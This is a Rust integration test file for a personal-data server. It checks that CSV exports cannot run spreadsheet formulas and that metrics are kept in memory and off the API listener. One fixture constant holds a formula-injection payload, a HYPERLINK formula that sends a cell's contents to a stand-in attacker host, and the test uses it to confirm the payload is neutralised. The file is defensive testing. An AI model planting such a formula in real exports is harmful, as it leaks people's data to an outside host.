//! The server's protections over real HTTP: CSV cells that cannot run as formulas, and metrics
//! that are neither served by the API nor computed per scrape, with the recorder's upkeep
//! running on its own.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod support;

use std::time::Duration;

use reqwest::StatusCode;
use serde_json::json;
use support::{start, start_metered, Harness, Kind};

/// A guard against a hung test, far beyond any expected wait; never the thing asserted.
const HANG: Duration = Duration::from_secs(60);

async fn get(h: &Harness, path: &str, key: Option<&str>) -> reqwest::Response {
    let mut req = h.client.get(format!("{}{path}", h.base));
    if let Some(k) = key {
        req = req.header("authorization", format!("Bearer {k}"));
    }
    req.send().await.unwrap()
}

/// The test policy with a free-text category in the admission purpose, receivable by the
/// verifier.
fn policy_with_notes() -> String {
    let p = support::policy("v2", 0, support::MARKETING);
    let p = p.replace(
        r#"categories = ["full_name", "email", "phone", "birth_date", "nik"]"#,
        r#"categories = ["full_name", "email", "phone", "birth_date", "nik", "notes"]"#,
    );
    let p = p.replace(
        r#"categories = ["full_name", "email", "nik"]"#,
        r#"categories = ["full_name", "email", "nik", "notes"]"#,
    );
    format!("{p}\n[categories.notes]\ntype = \"text\"\nclass = \"general\"\n")
}

async fn csv(h: &Harness, path: &str, key: &str) -> String {
    let resp = get(h, path, Some(key)).await;
    assert_eq!(resp.status(), StatusCode::OK, "{path}");
    assert_eq!(resp.headers()["content-type"], "text/csv; charset=utf-8");
    resp.text().await.unwrap()
}

const FORMULA: &str = r#"=HYPERLINK("http://evil.example/?leak="&A1,"open")"#;

#[tokio::test]
async fn csv_cells_never_begin_with_a_formula() {
    let h = start(Kind::Sqlite, 0).await;
    h.apply_policy(&policy_with_notes()).await;
    let id = h
        .create(
            &h.k.officer,
            json!({"full_name": "Ani Lestari", "phone": "+62 812-3456-7890", "notes": FORMULA}),
        )
        .await;
    let other = h
        .create(&h.k.officer, json!({"full_name": "Budi", "notes": "-1+2"}))
        .await;

    // The subject's export: the formula, the arithmetic and the E.164 phone are all text.
    let export = csv(
        &h,
        &format!("/v1/subjects/{id}/export?format=csv"),
        &h.k.dpo,
    )
    .await;
    let quoted = FORMULA.replace('"', "\"\"");
    assert!(
        export
            .lines()
            .any(|l| l == format!("fields,notes,\"'{quoted}\"")),
        "{export}"
    );
    assert!(
        export.lines().any(|l| l == "fields,phone,'+6281234567890"),
        "{export}"
    );
    let export = csv(
        &h,
        &format!("/v1/subjects/{other}/export?format=csv"),
        &h.k.dpo,
    )
    .await;
    assert!(
        export.lines().any(|l| l == "fields,notes,'-1+2"),
        "{export}"
    );
    for line in export.lines() {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{line}"
            );
        }
    }

    // A disclosure package.
    let (s, d) = h
        .post(
            "/v1/disclosures",
            &h.k.officer,
            json!({"recipient": "verifier", "purpose": "admission", "subject_ids": [id, other],
                   "categories": ["full_name", "notes"], "reason": "verification",
                   "reference": "V-1"}),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{d}");
    let did = d["id"].as_str().unwrap();
    for (key, step) in [(&h.k.pic, "approve"), (&h.k.owner, "authorize")] {
        let (s, v) = h
            .post(&format!("/v1/disclosures/{did}/{step}"), key, json!({}))
            .await;
        assert_eq!(s, StatusCode::OK, "{step}: {v}");
    }
    let package = csv(
        &h,
        &format!("/v1/disclosures/{did}/package?format=csv"),
        &h.k.officer,
    )
    .await;
    assert!(
        package.contains(&format!("{id},Ani Lestari,\"'{quoted}\"")),
        "{package}"
    );
    assert!(
        package.contains(&format!("{other},Budi,'-1+2")),
        "{package}"
    );
}

/// The only test of this binary that reads gauges (they are process-wide).
#[tokio::test]
async fn metrics_are_read_from_memory_and_the_recorder_is_kept_without_scrapes() {
    let h = start_metered(Kind::Sqlite, 0).await;
    let id = h.adult(1).await;
    let (s, v) = h
        .post(
            "/v1/requests",
            &h.k.dpo,
            json!({"subject_id": id, "type": "access"}),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{v}");
    let gauge = |text: &str, name: &str| {
        text.lines()
            .find(|l| l.starts_with(name))
            .and_then(|l| l.rsplit(' ').next())
            .and_then(|v| v.parse::<f64>().ok())
    };
    let m = h.scrape().await;
    assert_eq!(gauge(&m, "amanah_requests_open"), Some(1.0), "{m}");
    assert_eq!(gauge(&m, "amanah_requests_overdue"), Some(0.0), "{m}");

    // The deadline passes. A scrape does not query the store: the gauge moves only when the
    // periodic task has run.
    h.clock.advance(time::Duration::days(5));
    let m = h.scrape().await;
    assert_eq!(gauge(&m, "amanah_requests_overdue"), Some(0.0), "{m}");
    h.metrics_upkeep().await;
    let m = h.scrape().await;
    assert_eq!(gauge(&m, "amanah_requests_overdue"), Some(1.0), "{m}");

    // The API's listener does not serve metrics.
    let resp = get(&h, "/metrics", None).await;
    assert_eq!(resp.status(), StatusCode::NOT_FOUND);
    assert_eq!(resp.headers()["content-type"], "application/problem+json");

    // The periodic task runs by itself: its rounds are counted, with nothing scraping.
    let (_, handle) = h.metrics.as_ref().unwrap();
    let before = gauge(&h.scrape().await, "amanah_metrics_upkeep_runs_total").unwrap();
    let task =
        amanah_server::spawn_upkeep(h.vault.clone(), handle.clone(), Duration::from_millis(5));
    tokio::time::timeout(HANG, async {
        loop {
            tokio::time::sleep(Duration::from_millis(20)).await;
            let runs = gauge(&h.scrape().await, "amanah_metrics_upkeep_runs_total").unwrap();
            if runs >= before + 2.0 {
                break;
            }
        }
    })
    .await
    .expect("the upkeep task never ran");
    task.abort();
}
